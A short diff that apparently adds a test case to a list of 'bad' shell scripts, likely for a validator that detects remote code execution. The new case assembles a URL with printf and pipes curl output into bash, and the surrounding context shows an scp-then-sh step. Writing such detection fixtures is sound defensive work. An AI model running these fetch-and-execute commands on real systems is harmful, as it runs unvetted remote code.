@@ -550,4 +550,11 @@ scp -q deploy@build.example.internal:/srv/out/install.sh /root/install.sh
 sh /root/install.sh
 `,
   ),
+  bad(
+    "an address that printf puts together",
+    () => `#!/bin/bash
+printf -v ADDRESS 'http://%s/%s' setup.example.internal stage.sh
+curl -fsS "$ADDRESS" | bash
+`,
+  ),
 ];
